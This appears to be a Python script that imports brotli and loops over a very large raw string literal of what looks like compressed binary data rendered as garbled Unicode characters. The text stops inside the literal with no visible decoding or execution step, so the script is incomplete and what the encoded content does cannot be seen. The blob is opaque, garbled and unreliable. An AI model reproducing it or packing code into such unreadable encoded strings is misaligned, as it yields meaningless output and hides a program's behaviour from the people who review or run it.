import brotli
n=a=0;b=1
for c in r'''ݕWk8GYSn&I%%]tr!S3׭n-ЮN15{F]PKa:?|ÚN2J}m'1Ra;r@5XPkEƔڌ=T`eTTIpB+	U<0TJ:qQ{քj̺P?scisҰyKC84v,8ۯG՗kv=v,ijWJ1O̥e;7ۥdħs"Ykĭ=N\u51ueW<S|S6q%ٵfȨe%o?YFϥ@ЩR[:ik3{4F3м	O"4a4t(ق"KOi:5e9܇tF_
BN?7icB}RykJ̚LrA~}/8Tfŕ8c\̥hRK\
y#j_	GJ60*0DQB*vP^͞ ͍|-3zƔç	
c[.>5ٙy0÷3AEg~~O5$q,hN:jFcC}CjnalTIh <^HǤ7LuVmdŘI\?B&tߦry#$S`^[IK.`˧gZN{GqL(uD״XIWե>	CIΞxLGxD8<@Ɓta(:1ޑ
~XM@`rGǙ^4٨&˳Z]f62tޫea;p$.EypZ0vߺg[;-^+P8X!p
>#wSm@2}E-:?Z'C+S*46;E.<NP2mø3߉mŮҔp4qL&BRGS	ocxm/8<vbY: ݲOXƯDخZ`?d
m? q!|B+.k+@Y,u).In!T4=ZZQߖ9(Y
O>LPW`̂fo	0ɹŘ'P x<]UM)F]ڸw#7^^4WpsϤ/עўaYnwdҏûA>%{!jYt/o cmhxK)\JD3p6Mvw9hfv~Ƹ)e9kg#ÞCݐʥߑMnrӂ	<R@	b8cHZM'SU˰L9WT:eG8;tЖ}lڏH*v/_D;]Bvwo2Ěa.ε\~HE<by9#P%ɅM9XG.):ֿ˔Iβ$PgbA۳NԘ a<PF=hkih݀HKh[}]sǸ&o70qEeEƝԈho̷-֋1	Me"+WP
9)FPDvs7T6{XfI<
gɒ<Qif."z[lbt!HVOy*KsxD؍ocKKZMOobGĶ"{K0XPʅ[xd>sә#zݭ%˼l&3M5J|Ƌ~Ϳu"?:U,00DT ӌFfխ؆zl&kkWEp߷!X:nrUh970VoQsЇn~ʱ.ܓ5{n=>
cjZ!>Ơ",Yz#yBx<<]g	usHԆ<ƒQBg tO<- @rLŘy4-6@;]S}m$ߜ&qc*/\[]nQb`mnXTe_DZ
ĥ]9Q4ؘ&;_>0uX:!sVY_n_L!:	=g!ʀx=wge+Bp=f<Lh:udp-Փhs+A&2Ě.&.ίGר;aѨ#5-Ӓ%mOݨ%=F۵]Z\	~gȧڍfJXf2:&]	ðD/aLBڍxIL6x)fȰsGl~tz#0B_;_vj&_ӿRFrݔј<>fYY`ɯ}l+ɥ߼֕\3͗sgGAQ%X[/!}
L6^:ZNCUN3!2Gv*iIg?K>\hq([Hq,3Hyuڏs/Ņtǎy,5T>Ż&f}-;E2XMtև}I{B՜sA *'LS#GBXE*2TFE{O2d&dp[rS){)١`?Cedww.q>&~^iu]t>igҙMEV`S9RxaۆXM
!gdJYs6Ҥȸ7x*TX'M2!&6	UQQо,J%.ykZmY{lcF@m-PX۸e6=JUb0O0-IqD,tm
p
D#Z;Rv"-ߵ}ڿ$Ο	6WDMt/a1߅u*6)?MI+U}v@)|e?h?~]d(GŁh<ޘ+8\j QT\Qmi!V(ckƀ{/A!|'oa)#ރ+gֆsPLdcTNĽ#mÞSUU"T!y27Z(^hi$ɓoJxGґ#Dʐ
*,ߡ'ZPwmN`LBUq0`i.Tܕv6Uf`+%ON>)"qtq`ѼLRH"C80r)jkvvmՒ^yϕoE-n	<Щv9)D͟rkdY`3`Gf+KUӹ^os*
/+lԭpŜHJxiQԃ(#g@μcPNɚӮ]MLw	6SL׹:$|+=]C0E.Hl5ڸѸ͜`k),*ùl3P[/VȳݼrO0,v]Xo?Tݷ"rМuC׶m:t%sH'މsAϴaҊ,&ƠGQ\r0XԽ}9$z/ؕaڱGڴ{;BWG5$%Ш	zQ9~|FJLՀԺطsp2v2C+Yς{`ǹL6[U/|)!B&Pa._{GzaOKtI=(ӵ)98\CҒҙ(AFFF>jVL5A̏)ՆIm!{b,CP*PV-wh>U;LxrU z	˦:4Cr,3rQW-0].zf˱O5fh-"`i4TJwz߅fL67`vA\ӥ-(Tc"^Msr%3E$?_6LLI\PʲJW SDOD@jj4ϣNfK*}Ͳ;;Úyǁ(_ƛ`2}VUm7F/SxGiQ=RrP8[ "hb{7Rl'{Í:Ņ+#CR]=dVCZ@kI}ȹ-0w	oҒ΁N2I2J6ߑ(K
6@eEP<6|_2äNʮ k?">(T)Y-&Qلf)o'_GΜqn'%w݅m\E=S@|˫D^14X<ͳK	NmjW8SNʯ۝/Re1bEMgΓ0^ȅB7\S\ށŴòUS+7JǓ2ڼVȴiC?[Dle%8yF2dbbCCדe1&W[6`	vL7`;)+@qWcqv'%޵;6v&RG>U)Ru#޷WAhlSN$1(l51N/SWd<Cg15
Yf֪6S%FMP!K׾R2{{wpMr&1+Ns)ha:*&N(\UvѼ<XiHȞqqCڹ*/m\׍$vps]|#yx:XIQYIny=E{3ƨzuR.qÁF;W;bUƼ!lQdͣKa۝:;L`,@f{M؎zaz9R)s}2Yi@,@b`a&b4*7mIyMܿ{t3ۧ(>ڢR{e'guJXW|7/<n_s7çkĢ}΂l-'ܶPV:)iM֒k3;۽<ݳoPFàjzԠhFޤd#5cΤܟW|xt©M"Yt'Qo#2vG#e;٪WP L>arڐ9q߇u@:K5{QДTZ"T5VD٭o8Zc}z''ݥ8S;/ش`tbÀ2hАVR9!	DDb/ǰX<TSۛ}Jbb_/|,mz&Q?.RC-r4"ڈU`$ƻí76f+y:)iM8TΣ̂5ZUS0Ԯލc)iWAfn?8[Gج^jO+	Z`&~ؚs(kHG!h=`m@y`6!\Dα9z@3ee{zҧ~@<2H)-~XIBY&ROY5@*mGOEVLշLh+'iteql7/[np{LhYq7ʅcO8Ċρ+
?	ӽ\!҆29Jm2M3ێn\uZ^8FF1CUu:?ұ?nIU̎CTy#?g_-W{2ұ0{9rr˦oK e^Әό۰hF:r{;m
RDt)57F~5L'ˮc߃*(~%޹?m0!rBERU	qӖ:XI[+h7(\:=aRuGBCz/l9Nsxuw{@>pGCdMԚ'˫O?~Ў\&(΀1c·Wz$"#J"?v]eYĹTKuF.#sJgI[:f$UT\M:{`@{=Fe9V:ѥ0| z -S%P
0e͓iJac،d^ENןQN~7G;5Y/pϠY#}=1A1sg݉
_km#42%	^ξhv;CTaىk	C18Sɑ*K> +oȴ6 N"˷ckv3(:*4U.{,ט<	ER]KK]avN0"t̉%?z@H@KBy`)l](K$v0'l8H̵&TW"UbлO4ph5LqTE,49r3iMEi^CH^98qŧPNGsj__3ݫ` (5jaBkbb2!}^nQK}PQ]~L׋DQS$ͶУUZۇrSȉRMҎ{	ڵhdVvԩ.nPݝCV\`xUF6F33űGdHO`zz59$!ɵb|7ճ	 Q\$I
;~Y0VPϺ(on-7Sr҉^m~wӢ؛ʚ}v,^R9XgڴwԳvLc;&8ʒW!XQ:]x6Qf3ah2|Ϫe]\#bН~a}v[\!afkכX؃!yǐ&"S˚tIѩ@%&[ܟ1?>˵L61ؔM7V|6^K4xP(QQ&RǁrL3(/[\`߁aG<C!Q}4l_TpSY8k);'&u<,I]E`s@RqgPjuHdQvȒ~IBEyf?/OT"|	"6))ρUtf'8Xt4IѪrןTھ},>(L:Oa֪ԣf{$Icć#/!w6L1J֚p //ekOFM~a|S1m;rm?sH|J֗3[Q|?Yzç[H9߹UB1SҰ1SƄQ{ x{HLB/6ҙ/?ۧF5ӀYF0,&>lwբthwM3w.yL1)mvūVHP[d/̋ԓQ$$7xHYUL~ZeËGiĠul/OOdQQώ.3ZwFjO$_Egi%q-Y!ߧ#]6(Q/_IY|;L}\UT=nP/	^H'ڜD>^mѺC&w=ܾȓO];Ǖfij\AƊ5CټjM8	3]z.̪΍^ׁrxhgsMR/DTNKwٮerVL
̹>xC[z{3yyMb>|bō(S,i&L0Me]'^G]7-ú;*͟/LXLAaw0s2..,Dݴ<nggk63
DɶIJ>^yѐ±_SfZןAf-G)(%8D&Ȼ#T<ŵN1u^u34NP[foWF4ܟq~tvuAQaJ>Q:Q!/(!Xj_9f$9Gچ#sMـ߿ȲGrZ_'RCbNU	a4%zλjl$[A׼E(U9/׽4ΑwW(I9LAMϥZHAj"$?B1 NdoL_
}ekdBXf+6ݩߎ#-"$P:-RMHbiYO1ۚ8uWXfߏeR0_fH~CA|)Ȍ	E@6IѠ,0n_5>v[*KT8ʠ<}Ù֕;Ej[
)ُ<DԈԯE8Y^ř<?{B:tȫdi+<3
9y[	}6Ӡ-WpdC
7g@۔AiV]!DqHކni¨(ѪC|_=^Q֤zNа&S&5´?]jFv#lʮ;$Nx
fMo>В#O)y_˪lˎВ4ΐh^ԩ^R+p+ɋQl9f=؊uô6s{*jOd"̰FA/<|[}@ŀ$=޷h O0\{9~@f*Ge~{?wtq߰,k75,z\I+*XЬczg
l&vRzvاFt+Y{VBG'(3'WlWzV`:2HNLݹۇ=2n|Jܠo5>:z[Us?qPr=ڭzr'2w:Z|]"J|n1<0+1VX|!34K}kԁEpV.9^İf\ݲGcf6QkKΙ1~	<xrfxpyYG,"sv߭5m.ӝ.0Lb&<s/^$ouOYیu-T'uuޗr7I$s&9?N+B*`޽z9):Vbo١>cEȝŲrnܚ
ɸ>aQ>ٗcy\iE"r%T^|j557jBN-2տL@?zsi,7ܫM؁V]/Qe߬Sٵ׬IϫB]'7Г`Mv&x&Mު̡	%ڎMbj&ўms\4t,-{>uO҉dO.H (p*s	DRL5#T-t+3D[mb=a2crtԴrN}4>p,[PLKޛ4jXk-uqzKgmvvUØ{F N-D1Ԣcaߜޒ f{GGJP\(A7_P<Zr(Ogc ZڟĶ.PVЭyVzսQn|^Guck\%+``CHu=͚ڦƕNn(f+fÉ5ȻǕ%]h,'u7oCk&iXlF7){o؃Es{J^dDd.8yW9@KY=']ʄQ`y[QHKKȵ[ӁkqMPb-HK߽̆+C; `|ݥ̟ԓ$xd?})Hid`usyg`VvۼLa-y/e?sӀtF/AW`	r2]=ϰ:opX*65,MfĪIg(WJmV¯d}Xf¹O:7ٱ$.~ƀz;>,]w9\*J''Ͻ{;X!cyJ;O~ /?`mXj8#sfBt9qHOF	8pnxXj$\Ff7B9EL1
ώhHّzi܎kfXi{4K	ݵ_HdQQݡܤ*CN^^ٔ{Q tp֟тQI;l+AZUbTԀRQ-!m/ܓ:pӀ3Ղ/:?le1`#}Ν7mh~Dk"xjյ:{;.Y\5q	vv^q|J6OPitɤ'\Ƀ
ʌrXVP'>h\}ۯleSlê@]!
qgo̕Bۑ-<'+P<J`y>lF+adqatL2{hhONKH=)dO_wNq3M[eVH",,RN~ʓsUCƂUW^XݣHϼd%%-ߕz>Lv:%=Di?1Q*{"{KygB#HxxE݄Z)[{(ҋ!+ADR
Yϲ4Gٙ	`݅Oee<&Z+4ƀE14>cwc(-RCЈsg<ғ8IH^VݹCfP߶WYkvfNغa](SZtB]@cXO7v$W40Np[QÉƺ m-O?>$|$)ܦlBM=^9ոEW]MxyXGk!clNgG!sƱ|"9h'c5uB{ho<.ϽéU}[6ΥRGTH;9iݿ8X26aZ0o
rfy~U&4_ςaf];HZlنw{6W<oy[coNÈ.Ducdkڷox+U%{@4o#}Z5(nn@JF)żHRL/<CiyF<Öͻ}7"`ͱL7`D\кvfuW9)6H#Uf3BX9,=٬4+sB[iL%v<v(gIIg\cdqrk2nwl-DJV=h*0!Pb13 *g0E&/R44h=SP{ϬplӔˬ`dY}΁2z5=Qd-\zm)e("4-=
ڷkvlҲ|g^!sǕDb(Q\9iX3׌P	̈́3ڀAWJxؓ;nЗvVoh U4آܰՎIQpCr2I>ɕµ	\pL;̾6:.o?4{R@+K?k֑J8uPՠW_tf@|O.OQG^q"En9mBItFDbQ}b\βL>
:τhܛ{<%yYŢʄƬ^Hyg#%[Q9ǉ--P{\$Mo@,,az_PyT>O:=5?`zI=-N٨+j4K^[*SvTbj4T;OPmoW}+C`͝ı$:]5Mfw!2øĮ{!>|O	HxyCZpM!
S̚xYLJhdUf իQS;^}gl-Ar!"rD]?"aLB}0v7cn
:x@uavO)/-."b/SsK0M#K?&U_
r}|S8mYSnz3/[mЩ#hhg9(&LWlL7vk'=%&C%Ԩz9/r&CiRw̘cHG0V\0o"3[;C^K۰q_0o8!Q?`~ed'('?ؐrIگ)bXܚ1VrtcwD 
*S|+,և&sWz,ۡe_`KV%/z6ۯ֗8Ѝλ\9{yӌHNiZ"w]FT+i
h1˥f0:YЦn3_@5!փ6-ceņgUJ!R$ջA.l
K#L`k%$  R8,Zəv}@tL;Ӛŗ?>IBOO½<NO}C)2?2G7<VHw?A!m	ʔd*rsS^S]\BDڵtL	:D+H7\`H[8S()9}&&TmOz`	ޱs=Lm^kݿS*J4Ql8Tl2W.>-I֙_{#l(שpԈԃvwrwWRNէ|ŸNqNU;,[*_5l6@?ٓQ-9T~QOƲn1,u7<
wE OcE։j+3es)WNlAo@)ə-yFU]4ӏ҄^8~7-Kar(׻ c5i`4kW&/)2Ɍy&>f6J:֟7ov88;<E	Ӌͥ4*>@ z̾N>n-7ld2`Yg9P)]˗tkmQ=׌+ |}LكVɡj~@7K>[*P[DFBa55WlAVUǴȢTҘm
4F_Iv[adF2..ÌQ:bƳتz')aB+Z\KɄ~[٨Ah߸!d0(fWIP{ƴ7aO0I_,-یȺR9]@mrڮOBт+jaIn\2^vlgL
Ȕ'ʜPyλ!rǋ	Fa?(4ԿdS7D׶D˘wHHۆε+T ǉƿO.G|.?9ɀ~f:ۻH_&5r6:}o)~%'ψ3ȯ%k;jK=> (ߴ4fyvCSŧɒ@a[ibޱ3W):ʒMPβ}
Vir̡w:n_@]j<Ja	%.ŁR1?Ԕ^	ߢ. D^ΧTVh6wŇ]SR+tey.ǁg0?yq{{V~џ.?SHQHzJ;lc	>Ue85flC
8i>qt_~u ˴h+lv7]ҍiCP|"@Gvne>E%\O1S+OĿ;re	q̿o5*ӑߡ-K}*ăElmV;i/Dd@ǔ,#UQk6W/bjC!ѦjuhDJy<ˤn!?q}B[WO)?e#O7%niiNgןA]*̺kçr1Hf)~jFۄŖlǻgPfOA72T܃|@XPN[,%͇OS7c/w5A90W^|}їǏ,cs>2jNSH=]#Y JsZJ?v	e@LteKAea-T[i'3EA]5N}A74)U҇vu"y"xތZ<+C!-UTl	J>õ͙ԯ8|Aw3ޤ
˨uрsaȻӥ%|RkF0Lѐ~wtR&_Ti"?͉Ec
Mc7Eڔ%Mq-8?g~PBvʉM'6;eʔA0Bf`ƾ=fO>d]p.&'v$
SpNӏAN10٬g!i@bܵ(M]Rg1!2Hx$!;޽	$ݻ5ҍx.мp2.=|S!r	=au(aovY82͇cMݵX9cD7;j
4L\}uoj O5)'TnOHъn͋1W؃J!~c)ϞӶ?3LZeQ-D
~[ݤ*%ÚlaݘWCh#	gAo}R~^Sd:ͣ^'9T$,5;5\V\cNnϭ|ĀLmɤݒ{0!`-'k|&#b"N޻@.͔n}Q,zZ(GFDkxayc`OA)Ov1bJkD5Ci˩,DN-<JGkjւЧbl}f {yLʱ>`24QU۲֦ۊ;hbncLͻ19ΥE$MܱbZ|}cԿwHDۃRX|}]gW2>vbL5,xyzM6kǄܶ<&H'",C$gߚ{|4ƆKeF]Pa|M-݆lBbxO#PEvPKaJ [saMw?+{}VU|$AplmKW;֟ʆX0ݢlk5R׉ʶ '7em?¶pA7ev*[iULW<{z?[N0~i"_HLT6`A:VN
*ǌ]\z27ƈM1?ү.(^ѧْ[v͜.'*A3
)\+A;C{oϠ>U?f6H@"
X
FitKV}!:W0	[Jސt7{#h-LvUqI]ݨqR@ýĞ#K yxw#@54xaO|hn	d^xg=>8"	6:Ch-o\FuBřgl;-d!dqƬ]_AtGB~Є_MXv3pnU^z̭t:0Xc{8P%0QT%v;/dY4A9I *Aan»im.F]Sj>HɹxyMݶ+̺ELk#Q9]V1k7t1̕v?V|Ę-~81JNODϴ!>bGMD13}URTEk=0Ŵ!#	V&^z0aŬ=hυ(uHxy,FIhAĽ?v~<rQh؟7ǀF/I7x_ئ"
8!Vx1ڪȖwa}ՙJ`\yZsPڬ`I7Vlq46̃#ιmjJY`}ƛx7ĉ3B1ҷ_zPcJx̉;)BkcwRN0% G+:?.AtQp,ȳO7P}R>C$fԱaa¼hl;pv@Cy[x]odB6~vNfqȉFi/\odP@e}=!ax#]ëorΐ(ZdZi\A&Y	_v#]=]'Z9zsu5UMF\QjQޓ=ڐ׹)]@QIS,D]PEOJBbQ*}Q`:%D:9"]1vܯ*xT=*&JϜƨ`NQсK#gFdQwqF
A8ԥ/DXߥ0i^>^ۂ\ހgqlHsҡ^5L^ȏkZة!wŵbC~ѽяlOa}m0λN4NKZhC9juokg@Wʐh΄bLg̵0
f;J7 q%9Wh9(G3(^m1|ޥp;y/LL o.dSҵz˪`hhx<A8:xQkv,~=}|Sx1a+s:v<ӠʆTk\?!FRDGVcÔGg)))&jKn@BP}e֜vvэ~q>lʝxA/]iYVފH%mрt3FA4eբ5Y$FhAHNJG/́6_S2)=~\ݲ,KV^!q)|'еUוEs_$mtb&BNk&'V2uƆg{6aFvB-ۇQA4ȨN}Ecqg&f?#8c0۲V_8qMEeq=W"ƈOr3z3MS][rri~ȓoo͇M.Aq7
̭ӊ"taq,A1"lon')~Qĺ\	0l}Idf̵	6{ Y.1x"ź׆[Zd~F1pOE74̀NU
uKuȅ\շSWS,:ͤE8dҍZWMbGx|.=Ld#h72IߜƋ<:]}Qў\܎8eߺg8hVīIȏƚ>tU,LTn)E0 "C/&*e%jh<V+2$WsP\EaىMe=gψmAy&NfzS8^I|ZvFp'X|dɡf\xޛWWGquk2#D<
:DFLˎu+sтpC3j,/g^DÞkV{;ڔz;)9	m|ۅdWr`ƺEk6=ғ[OjK((<ah%"Ð)!2/fhn<ʀ7m7I?<څƇkؤ_K\W'FTLrUVc>YRQ?CɆcl6ZDZp.ҫE8~ȴ_<?<"ztdYƙ=<o.x?$K*<)+O'J.xB,~
K8ܴNP{%'ԐbM+p})ҧӥd<37lY?<k32<gӱC#?ě	}ȼlaKٞ8\ÔyC3F%Lw3_|*ReOv~KEH"vڍ{5+>סu!@xO`F|zww%)3N'Tf#	sCq%ԥcUCcsS0Vt|:?'E=z"92Ìz܇W;R;XWrPA:Ӟ}PpOdVEyJkhn(Yh]G]f?"1KpOs0Cbz܆gI._oYϐv>jM}&ժnڲAJx)LBeAp<[[ȹ9bCP4UJ7eFEVԌ9i{0wyx]pzq!bɡarP(چ7vЃ I`uGt1ukBxRnfWje&zX͓Bܬb'M	S=rƕ)ǻ-/?9ybJOȚXw6Q-x, }߻#IAkUx9Wb_5ޕB˴ͼĥ{Ap>Q"%B0maTJt+Iőz"lּmRpTf1U3x=,xz1+QGfCQyvKɏ&3kɎ͸[6{iV@[q=DV~p=3ӄY߿RYE8ܧP1>fT&6.F8ЁqAť*06!̕pz=Jj(~EoJf.ϑؔ~
xwAP?7sTIm#$`XAT{h42WyS]K9WI<5uѦґsLMv+-`jshs
[]v^tͣ/ڽ˅U_ؼu'RÜ;u)
U=%ܜ~߯_]JķF`#Ā}4W|75|qϴ?߲r\GeG=zEڒM/.ҋ<AR~F!z9uty*.)oL/̌:AWd-?.yu=a9մ@/w2^UԄ=JH^}:O^Zӹr,-q	d_e`\u\;ԄXLU0ٞˤ">fZ؟_#Q.)D#Q/}*Ų*.W=
jLm|t~
!??Bt%Qh;dK0`WL6a~Bq	 xǇQƯ62R_]MkР.O!+k+͙clIщa(bOgЧ:ز~qY
ӆŕr
ۮ<k}0Zu@'x'M֨p2)
Ҧ&.%.ʋ}ԠҾT4]<Z;۴mVns*.CGpQFEƟHy\0"2X9s|j(Ȕ~>G#(s_?RCƊL(vÉԿ.7<gPFH#jܸoXZ;ڕʋ$od[-ޅ4ʤMH< e>hS2=ўۑIR^Zyݟ#6j=]L;g 5aOWÓihQO9&]ʫ:O¥nvcHקJZ'kX4d"+1Ky><FIwY|єek,}D(b5V.Mg܇S@D0`Q|#HƜW͈ok'P'ܪmЧӵxU9%?'	4N7n"l+z<%!Wծŵ"4kԊ)Gb-l]OnV)ee=7nݙ9IV\Ĝ*0(
޳}#EÜF}9͂]2޲\n! #W<Ǯʲo׾tzctLIز@/6׊o-ǕD6o1kdr_2ZYB/,"QJՠ#~vh(0ߓ}RX:E9a*9{6ە!Y>V2kN8)X]oĉX"M+*k> 'MaЏ:
4.;Êؐ2SSGyRP6}ڃtvs)DTw(r"+ݿDbۅݽXIAlX(;jܵUuݷXmEI+&?ǽ[7NOZmrH"(ǅX]DٜNqwJw_Gl߳]Y1uocHXqoa"ݦm8+q/oܹCoaT f"͉26$@<AZb?ĘcmlޮՅNt5s%jOɵ5OQj%@v
8ZПscabCF#5]YE -#tBZ5kK	y&o[ys̖~@1_]؇!`3V>KXOFnKŲȓ@:6G{
S9'D99ȱҚd_;pbwyhpWu&jFc+eʠ/]j4PcpǛg;[ڶ"Ⱥ9%HI,47>Ou0֝_]fsvB_{PB\3mZ1v9bNzєi٘]vnU'l|"Jq])֫~j1.r0kn:t}gOKQ1l̪aq׿?Q]4I$vEwC_̸Ɖ3H<I϶ҤԾބJ44_lZftJԟ!RCײ{Ƃks26`B0Y=K_xKiB;]-N>xuS"a9x}̜aDx@yѩ[)(hcW>@ƌ"1@9p(Оvp,YsL2iO:zUiWb#0QpѿuQDI!Ȁbf(e- ekC)blA!qߥ(x5,o-g93So^yO0-}i[&Oم>>ՎUMBמmJ4QUˬ{	
+kY!ˎMluoŚK-pW\nZ4lSƬAnp+̽LPkd$Z}Mm	xs&ξĦ, 'gJߦ$Ƒ6"@W}~GGK#CYQ#23ch@QFDJrr]wWo-	MU~Yh\Ŝ)s0Gx!ri8)-67tf>,<O0Ʒ&ܓ8aE'PS+ݳT>Wfm<Ch;2ҡ&,8
Wq"߾Iq}*D0
'W.T#Yׂ4SKBѝ^qj3Oɴ,i)Q: aՑt7>vv`͆vW5{<v	YIt=86N*بW{DoYMPo*34T gmP̲?}eұx09އ`tΰr_?ۘ?/\tք$#G8<jq۟ݰQg8:Ʊ^ߴ&,]~߆<AiV&R#/SNxeb5l%ܺM;jd"SR
l!%H't;ڸ%\Ƕ-Ċ1y
	Xt6N9Hh?t?Pʑj3,Aǉ	cMGpP۵T':n)ư,G_8s=oJ@?)U^%N.tuz^4KKw+^ n1Յ۬gD 2qPѣ/owV\.̿!e*0z˟9bb*ZAé(!M#SObɰ~%95;MxĤopAvb
:©׈mf&!e$
<edSq۝9'N?weUßncȆu=G`I	 -^x^u͊N^NfɚUL!Wހ[hҢvn@#w؄\OjVWbkC7V&b1m46h5ɋ(lɼN5v8Z&MPSWӇD̐T%f;^ՠA;{;cN*"ag*0MWMK{f͋fO>ΨQק}4N{W`=)kD\OȗZ"dW>nOUJl]yN*+ÓK/v_aYLmTOK&5O!QĞcj"OxkFcbzvU6]Q5X!Wk;8L	Vq3Np\$ZL";8ȸջq¤V*'gЯߤ9ˈ5NmL48<ɝ\m={7H}r^xȝ~~0}nU8f_4r65Plr٧4W8D"LeȌHN@ݯ%>3{eXfޔm]kêr]YJ!%@|o^W4S-c`8sRqaX:z< '9}/bAcLҽ[.iqT2@IIp}Φf]pҍͫ{dmƌM!MIS
zfR-\}h$'Fa~I~Ģ]c{Og{CPgM1gZN_ qBV@:	ހ_rRLMވ8԰͉
Kz\ۄwM;2ajĜlϤ$gǝ΀D6t>T/_ϗփ!W|O{;BB"#?B927l:=X:%M׸WЪYB4y5F?8Hk}`caB!	u$oAP;5ng*	"YkE,#CqА6Of"rm41eZ.}޻xTƧ>I36yk{b)_znp"ŷnQa}.C%sp)ORfbksɝQi>.1{UU,e\A%ҏ.qc}үvzQ7_ W˴wތlɿQe&ufSM̽onV0TIfzAN.z و>/sYPPCK1mGj
y)ƕ4׀6CNr/u%NBƅ~1h~}z3LxF>Y4[rk,kNJHw='`A;?;V߰4!SFРt=
NQP2°XO6F[rhp8h[Í6_^NjiٗlCǘDզVyX{׌<C{ȱ[qN+$jGѴt-{آDYZ3ID vKĦ;pVFAC(uf%*=H2ȴq0b
VΫ^RqD$M>ض8+T@Su+nM7ĭgoROeֳ	 Mvw%ts1TݹZoHK84;A>rq{7{{Üz.792#4o7Plp݇Ƭxvw݊g~9_ciָmQР\Eu=ևHAGH˘mп0LՊ߰3+=zxus׾R|Ґ6A.δOuzczs>oTLBΆ=Q]'hs%$w]EєmR?=j"ĭJA*7Fҕ~?[vCڠRr	;|SE[X֏xI
r(c\҇'uc߱uP8Knz7ġ~Ts(n
CV+pI7ȼ#F˩tU|h/hzTzǫ§zY;9?͈k$.
ON)1oMz-q8I$|p$	0E8ÿ@<m$@Ӊ:I։~|9KKn6ruȃ(A!)8ђv11*lNewʷE]68˄'f55umup©(Imҽ?גHu@RN:]9i]ޟpkU@LpS4@=q`C7g׉<RRI0VD._:7#".KOeա	2[u@$9DQUcgģt
ah?qx͵)RZHaɷB7[<܎W6^hDl'7-(IxZ9LiIdڐMn6ѐ6S<ʐع@?:	K 3ߵW9#([xE̿_=E_1Mc0!I\}n<	v\gD@˷!r,IG7o|z2G9*6=(T/Qά~2YRO{*!oث߹2ƪ/*C:ۙ&c#wv5XH'<=C(|BExJאKa?|}yۄʧx"!ј:D6"dI-:<0;NjU:63'V1\ŏKN/CުEa\}kӄ>֮go4*قEƣƱ\QNvVǄY&gn׃MW-әn"9J|azv>^
`6IJ̐e43"/eƼږCYt(3IF	Q6NVu*[!ȶ
eg<AViqٛ.Z#%\pʱjL7uW_aݰK(;K>Fû2N?l9
B?\$@"]C5#oeuI!+4po/A[|}M/L­CLGr̘gЋlo#;8x߯]qig4>6`HKEhڲ5
lqoaRAy;B=r{ p_[6mY6Ƨ	0-069ڄx{D!Dr{ky,m:P'lCۛp:lRih_)m(jKP%wÞh<n$qAn#w
me\ۛg	іgyӱgT<Gq~.J?<	Ř;Kl8,w6Qtćy!5$L'tv,2-9ˁA>YTWqHoO.-hL?#^Cst.%XH_c=`ޕy5FK8mP4 *8؍AjݕmNdx.Ԫ\x[glp ysW>]zVrq"UR}ZOSxsaAwLz׫c=/knX	
},أ>ӣЯs.,>z0Pý:~ʅ A-+kIoݠTa, `G)-%)[M Ǧ:M(ǀSqm5q٫xz"m~ư]M	fJf<ƫsEp;̼̓m:Ɠxp`:#
{ѼHm>ID^f١Non` ܎3vT+"O%@כI`
t.er?Is5ifoU,By?,4KNį;%[=n-j}%22,ִre|`-/1kOaU	@K-H4nr)8i߶4{ѻUEӑ=5uDUFlX&2laܜMhm?ػNF+ܥXOΟgD?+5S̺2QܬJ^=Ap%M̕ӈssRF1^>q<[BLϲp;<XFJz#QL(xz&C:-g]~_f;5'#l#/ciYXDO-}lUxwl\5Pú$ԲǮrav|9/ԉ.9Mv?]C:q.>ΏA	Vy $uoueA1~fY>?CIϠiP*O{~h	*t:ր=MB^k˪"#,9^)Qz8l0]EFuB7)iצYʬ,hrqUav%01)VThN֊ʣVHg0<?C{5zM#cHn65Y7kCk>nCth-66T [ :ΉS\YbvH$FQқ>?jkN%OR#4vd+zPxAbЛ{	3=Q?׺p"9V(o3}C1"?8ͮ.sthvס4͚DLUKe=^;G<G+PLHY
I_"˲IM`đ+}D}A!:o&@l[dcɣgV{K|FTzr=pcKa1*W!v+BŇC@^9@a4C{D[4Q͇pUFy=[gFSo<w'R:GuYzŇ4ǃȣN2i3fqIZ.sǉWsРsNVH̾i
y+؜CƱǖZ6rWj͹=ϙR"cyQ?timh3[u@	ʈoxLvsɬ\4W#/sZ9eg,~TVd
qU1|-^Y$y\ZΊ8	vBH!V̽gmCkĩG>|ԉ[;A/oĽR]7ՑK9Xm y8~ϡY#e}$Vrs@K<"V98;wG/*#~&0ԻiL61l\JaeNӊu,']4]m@5u@bN>()Rҟ4
:(J>Qs8 _1=tvqB@*6_U|ǅ	R+
շʑL>ceݯ9L"AE
TQUm"iRow9v]ұۡ!g+Go1P3y|!s$z	C˨5۳
ۀ	ĴG,sHcnx|Ps9îN*'Į'G؝?P&8Sy/T|@ hS<jтK48ig1/\|;*sg&;Dmt˙3Zb߃&||_<"Ja_9p_T&n _kUhw$@hLKMpKi0BsEϹGݬ4<Svw¹?Kd?C'/6@хS ؖr΢T=/kG9Sf3|
kٓ	N	H!2['!&&N(r
~_G7"xz=dUQϰJqoz8,.Jx/yНq%Al:Krލʐ%6x#[Yi3#Ϡ{
?gM-f~EqZMnZzw%)O{3$X%R"GB]8*h;hk8?##%ǤAzū/T~ҋ2wE3z;܃-Atz!85̅hL6^݅~].!rp>,@#/VPқ5"fܐէGǪHȗC2ŅkrC,|p{_K5{AaGvo]:*֕cf{D+c(ǈI@?k9 a
5Sܖp:6KKWWơXA#{7X>{ϭ%j?5Z!">c˧I˫B+q@^LQTC7X.֐Eܝ72Ҏo_k+DUø*
X>cU.Ohm¢ےw5ҷ^вi5S̒Уɛ75qB}f@Os'[ph/q#qҮ޻×})}78fId7AuAǬV}{Y߀ocX>tVI?I:S?Glzp~-ybzLڕU7?QsY!/}C]n\y!zݦC:3Kg6jPZ^xR[[Wb=faڍ~oOjj>ҠC@Nw-ԁRd<g9uN<<-Ӏ<`5#E
KB5)\ДC%#_,z؀[+؋/zFD2;fãe+fy1FL-V۞{c@P),k~z%q\hЇ)[_K>߀͇Np)|ĽmE71zBv|J3z8ƶH1ٔi`ݩC
Ƒndģxi;)%Vʅ3&^Q3o_7R'ߤrΆ0j]>G(Y#p)s#CHt:\z
 ӓ`Wѐ&
ZTv3%Ӈ4۔giѣ֐ދHCh2mpjIpڙAaO2MR3dųsл{1](+-qS:exh:͒J#!}N%co=?Woͅ=ON9t1SGxYO~MR_mחӒʍ0v:yd/qa" v [̨Yv#IEڱ\278Lq*[D˫42݌g7,'I7d%Dڬ WpLЯS٭1wG;`!sӦ-/nd2Ê\AZutbŞ̓dRGW]+7{ߢc`	Tnx5:K,۵qCбL\w<\ϣde)Y;5vo/7o#R='?FIkk̓;tBp3xL/ŕ
